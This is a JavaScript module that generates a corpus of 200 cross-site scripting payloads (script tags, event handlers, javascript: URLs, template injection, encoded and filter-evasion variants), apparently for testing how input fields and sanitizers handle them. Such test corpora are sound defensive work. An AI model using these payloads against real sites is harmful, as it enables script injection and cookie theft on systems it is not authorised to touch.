// Texts that try to become part of the page.

/** Pieces of markup and script as they are tried on input fields, mixed to 200 different texts. */
export function corpus() {
  const calls = ['alert(1)', 'alert`1`', 'confirm(document.cookie)', '(0,eval)("alert(1)")', 'top["al"+"ert"](1)']
  const shapes = [
    (js) => `<script>${js}</script>`,
    (js) => `"><script>${js}</script>`,
    (js) => `</title><script>${js}</script>`,
    (js) => `</textarea><img src=x onerror=${js}>`,
    (js) => `<img src=x onerror="${js}">`,
    (js) => `'><img src=x onerror=${js}>`,
    (js) => `<svg onload=${js}>`,
    (js) => `<svg><animate onbegin=${js} attributeName=x>`,
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<body onload=${js}>`,
    (js) => `<iframe src="javascript:${js}"></iframe>`,
    (js) => `<iframe srcdoc="<script>${js}</script>">`,
    (js) => `<a href="javascript:${js}">x</a>`,
    (js) => `<a href="java\tscript:${js}">x</a>`,
    (js) => `<details open ontoggle=${js}>`,
    (js) => `<input autofocus onfocus=${js}>`,
    (js) => `<video><source onerror=${js}>`,
    (js) => `<math href="javascript:${js}">x</math>`,
    (js) => `<object data="javascript:${js}">`,
    (js) => `<form action="javascript:${js}"><button>x`,
    (js) => `<style>@import "javascript:${js}";</style>`,
    (js) => `<div style="background:url(javascript:${js})">`,
    (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
    (js) => `<base href="javascript:${js}//">`,
    (js) => `javascript:${js}`,
    (js) => `data:text/html,<script>${js}</script>`,
    (js) => `{{constructor.constructor('${js}')()}}`,
    (js) => '${' + js + '}',
    (js) => `<!--><img src=x onerror=${js}>-->`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
    (js) => `\u2028<script>${js}</script>`,
    (js) => `\u202e<script>${js}</script>`,
    (js) => `%3Cscript%3E${js}%3C/script%3E`,
    (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js) => `<IMG """><SCRIPT>${js}</SCRIPT>">`,
    (js) => `<x onclick=${js}>x`,
    (js) => `<template><script>${js}</script></template>`,
    (js) => `]]><script>${js}</script>`,
  ]
  return shapes.flatMap((shape) => calls.map(shape))
}
